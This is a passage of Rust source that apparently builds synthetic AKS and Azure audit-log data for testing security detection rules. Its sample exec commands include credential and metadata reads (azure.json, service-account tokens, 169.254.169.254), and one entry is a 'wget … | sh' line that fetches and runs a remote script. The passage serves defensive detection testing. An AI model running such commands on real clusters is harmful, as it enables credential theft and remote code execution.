    app("kube-system", "csi-azurefile-node", "mcr.microsoft.com/oss/kubernetes-csi/azurefile-csi:v1.29.5", true, true, 29613),
    app("kube-system", "ama-logs", "mcr.microsoft.com/azuremonitor/containerinsights/ciprod:3.1.19", true, false, 25224),
    app("kube-system", "azure-cns", "mcr.microsoft.com/containernetworking/azure-cns:v1.5.26", true, true, 10090),
    app("default", "redis", "redis:7.2.4", false, false, 6379),
    app("payments", "payments-api", "contoso.azurecr.io/payments-api:2.7.1", false, false, 8080),
    app("payments", "payments-worker", "contoso.azurecr.io/payments-worker:2.7.1", false, false, 0),
    app("checkout", "checkout-web", "contoso.azurecr.io/checkout-web:1.19.0", false, false, 3000),
    app("web", "frontend", "mcr.microsoft.com/oss/nginx/nginx:1.25.4", false, false, 80),
    app("monitoring", "prometheus-server", "quay.io/prometheus/prometheus:v2.51.2", false, false, 9090),
    app("monitoring", "grafana", "grafana/grafana:10.4.2", false, false, 3000),
    app("monitoring", "node-exporter", "quay.io/prometheus/node-exporter:v1.8.0", true, true, 9100),
    app("ingress-nginx", "ingress-nginx-controller", "registry.k8s.io/ingress-nginx/controller:v1.10.1", false, false, 443),
    app("cert-manager", "cert-manager", "quay.io/jetstack/cert-manager-controller:v1.14.5", false, false, 9402),
    app("argocd", "argocd-repo-server", "quay.io/argoproj/argocd:v2.10.4", false, false, 8081),
    app("gatekeeper-system", "gatekeeper-controller-manager", "mcr.microsoft.com/oss/open-policy-agent/gatekeeper:v3.15.1", false, false, 8443),
];

/// Containers people add next to the main one: (name, image).
pub(crate) const SIDECARS: &[(&str, &str)] = &[
    ("istio-proxy", "mcr.microsoft.com/oss/istio/proxyv2:1.21.2"),
    ("fluent-bit", "fluent/fluent-bit:3.0.4"),
    (
        "config-reloader",
        "ghcr.io/jimmidyson/configmap-reload:v0.12.0",
    ),
];

/// The `exec` rule ignores pods of these AKS tunnels (matched without
/// regard to case, like `!startswith`).
const EXEC_EXEMPT_PREFIXES: &[&str] = &["tunnelfront-", "konnectivity-", "aks-link"];

/// Commands run through `kubectl exec`.
pub(crate) const EXEC_COMMANDS: &[&[&str]] = &[
    &["sh"],
    &["/bin/bash"],
    &["env"],
    &["cat", "/etc/resolv.conf"],
    &["cat", "/etc/kubernetes/azure.json"],
    &["ls", "-la", "/var/run/secrets/kubernetes.io/serviceaccount"],
    &["nslookup", "kubernetes.default.svc.cluster.local"],
    &[
        "sh",
        "-c",
        "curl -s -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    ],
    &["sh", "-c", "wget -qO- http://198.51.100.9/x.sh | sh"],
    &["ps", "aux"],
];

/// Security contexts that keep a container unprivileged, as JSON, or empty
/// for none.
pub(crate) const UNPRIVILEGED_SECURITY_CONTEXTS: &[&str] = &[
    "",
    "",
    "{}",
    "{\"allowPrivilegeEscalation\":false,\"capabilities\":{\"drop\":[\"ALL\"]},\"readOnlyRootFilesystem\":true,\"runAsNonRoot\":true,\"runAsUser\":65532}",
    "{\"privileged\":false,\"readOnlyRootFilesystem\":true}",
    "{\"capabilities\":{\"add\":[\"NET_ADMIN\",\"NET_RAW\"]}}",
    "{\"runAsUser\":0,\"runAsGroup\":0}",
];

/// Security contexts that make a container privileged: a JSON `true`, which
/// is what the API server stores, and, as some tools send it, a string.
pub(crate) const PRIVILEGED_SECURITY_CONTEXTS: &[&str] = &[
    "{\"privileged\":true}",
    "{\"privileged\":true}",
    "{\"privileged\":true,\"capabilities\":{\"add\":[\"SYS_ADMIN\"]}}",
    "{\"privileged\":\"true\"}",
];

/// Resource Manager operations of the sample: (operation, resource id,
/// weight). Reads are not in the Activity Log; these are the writes and
/// actions people and pipelines do.
pub(crate) const ARM_OPERATIONS: &[(&str, &str, u32)] = &[
    ("Microsoft.Compute/virtualMachines/write", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-build/providers/Microsoft.Compute/virtualMachines/vm-build-01", 20),
    ("Microsoft.Compute/virtualMachines/start/action", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-build/providers/Microsoft.Compute/virtualMachines/vm-build-01", 15),
    ("Microsoft.Compute/virtualMachines/deallocate/action", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-build/providers/Microsoft.Compute/virtualMachines/vm-build-02", 15),
    ("Microsoft.Resources/deployments/write", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-aks-prod/providers/Microsoft.Resources/deployments/aks-prod-upgrade", 12),
    ("Microsoft.Storage/storageAccounts/listKeys/action", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-data/providers/Microsoft.Storage/storageAccounts/contosodata", 10),
    ("Microsoft.Network/networkSecurityGroups/securityRules/write", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-app/providers/Microsoft.Network/networkSecurityGroups/nsg-web/securityRules/allow-https", 8),
    ("Microsoft.ContainerService/managedClusters/listClusterUserCredential/action", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-aks-prod/providers/Microsoft.ContainerService/managedClusters/aks-prod", 10),
    ("Microsoft.Authorization/roleAssignments/write", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/providers/Microsoft.Authorization/roleAssignments/6a1f0e2d-3c4b-4a59-8e7f-0a1b2c3d4e5f", 4),
    ("Microsoft.KeyVault/vaults/write", "/subscriptions/9d4e1b7a-2c3f-4a5b-8e6d-7f8091a2b3c4/resourceGroups/rg-payments-weu/providers/Microsoft.KeyVault/vaults/kv-payments", 3),
    ("Microsoft.Insights/diagnosticSettings/delete", "/subscriptions/9d4e1b7a-2c3f-4a5b-8e6d-7f8091a2b3c4/resourceGroups/rg-payments-weu/providers/Microsoft.ContainerService/managedClusters/aks-payments-weu/providers/Microsoft.Insights/diagnosticSettings/to-sentinel", 1),
];

/// Who calls Resource Manager: (caller, client).
pub(crate) static ARM_CALLERS: &[(&str, Client)] = &[
    ("alice@contoso.com", REDMOND),
    ("alice@contoso.com", AMSTERDAM_VPN),
    ("bob@contoso.com", SEATTLE),
    ("dev-intern@contoso.com", BENGALURU),
    ("5f0c2a9e-8d7b-4c6a-9e1f-2b3c4d5e6f70", FRANKFURT),
];

/// Index of a resource in `RESOURCES`, by name.
pub(crate) fn resource_index(name: &str) -> usize {
    RESOURCES
        .iter()
        .position(|r| r.name == name)
        .unwrap_or_else(|| unreachable!("resource {name} is missing from RESOURCES"))
}

/// Index of an actor in `ACTORS`, by username.
pub(crate) fn actor_index(username: &str) -> usize {
    ACTORS
        .iter()
        .position(|a| a.username == username)
        .unwrap_or_else(|| unreachable!("actor {username} is missing from ACTORS"))
}

/// Index of an app in `APPS`, by name.
pub(crate) fn actor_app(name: &str) -> usize {
    APPS.iter()
        .position(|a| a.name == name)
        .unwrap_or_else(|| unreachable!("app {name} is missing from APPS"))
}

/// Whether the `exec` rule ignores this pod (see [`EXEC_EXEMPT_PREFIXES`]).
pub(crate) fn starts_with_exempt_prefix(pod: &str) -> bool {
    EXEC_EXEMPT_PREFIXES.iter().any(|prefix| {
        pod.len() >= prefix.len()
            && pod.as_bytes()[..prefix.len()].eq_ignore_ascii_case(prefix.as_bytes())
    })
}

/// The name of an app's main container: mostly the app's own name, but
/// some charts call it by its role.
pub(crate) fn short_name(app: &str) -> &str {
    match app {
        "ingress-nginx-controller" => "controller",
        "gatekeeper-controller-manager" => "manager",
        "argocd-repo-server" => "repo-server",
        _ => app,
    }
}

/// Appends the actor's username: for a kubelet, with its node's name.
pub(crate) fn push_username(out: &mut String, actor: &Actor, node: &str) {
    out.push_str(actor.username);
    if actor.role == Role::Node {
        out.push_str(node);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tests::equals;
    use serde_json::Value;

    #[test]
    fn planted_exec_pods_avoid_the_exempt_prefixes() {
        assert!(starts_with_exempt_prefix("Tunnelfront-Upper"));
        assert!(starts_with_exempt_prefix("konnectivity-agent-6f7d9-x2kqp"));
        assert!(!starts_with_exempt_prefix("coredns-abc"));
        assert!(APPS
            .iter()
            .any(|a| a.namespace == "kube-system" && !starts_with_exempt_prefix(a.name)));
    }

    #[test]
    fn static_tables_are_consistent() {
        for actor in ACTORS {
            for name in actor.reads {
                resource_index(name);
            }
            assert_eq!(
                actor.role == Role::Human,
                !actor.clients.is_empty(),
                "{}",
                actor.username
            );
            if !actor.extra.is_empty() {
                assert!(serde_json::from_str::<Value>(actor.extra)
                    .unwrap()
                    .is_object());
            }
        }
        for context in UNPRIVILEGED_SECURITY_CONTEXTS
            .iter()
            .filter(|c| !c.is_empty())
        {
            let value: Value = serde_json::from_str(context).unwrap();
            assert!(!equals(&value["privileged"], "true"));
        }
        for context in PRIVILEGED_SECURITY_CONTEXTS {
            let value: Value = serde_json::from_str(context).unwrap();
            assert!(equals(&value["privileged"], "true"));
        }
    }
}
